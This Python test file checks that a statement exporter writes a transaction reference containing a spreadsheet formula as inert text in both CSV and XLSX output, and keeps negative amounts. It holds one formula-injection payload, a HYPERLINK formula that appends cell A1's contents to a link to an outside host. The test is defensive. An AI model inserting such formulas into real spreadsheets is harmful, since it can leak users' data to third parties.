"""A statement's files are for people: what an agency wrote in them is never run by a spreadsheet."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import TYPE_CHECKING, Any

import pandas as pd

from infra.statements import FIELDS, write

if TYPE_CHECKING:
    from pathlib import Path

RUNS = '=HYPERLINK("https://example.org?"&A1,"x")'


def line(**said: Any) -> pd.DataFrame:
    by_type: dict[str, Any] = {
        "amount": pd.Series([-500], dtype="int64"),
        "date": pd.Series([pd.Timestamp("2026-01-05")]),
        "string": pd.Series(["x"], dtype="str"),
    }
    columns = {one.column: by_type.get(one.type, by_type["string"]) for one in FIELDS}
    columns["currency"] = pd.Series(["CNY"], dtype="str")
    return pd.DataFrame(columns | {name: pd.Series([text], dtype="str") for name, text in said.items()})


def test_a_reference_that_is_a_formula_is_text_in_both_files_and_an_amount_below_zero_stays(tmp_path: Path) -> None:
    sheet, workbook, _ = write(lambda: [line(agency_txn_id=RUNS)], tmp_path, "s")
    (told,) = csv.DictReader(io.StringIO(sheet.read_text(encoding="utf-8")))
    assert told["agency_txn_id"] == "'" + RUNS
    assert "-5.00" in told.values()
    with zipfile.ZipFile(workbook) as archive:
        cells = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in cells
    assert b"HYPERLINK" in cells
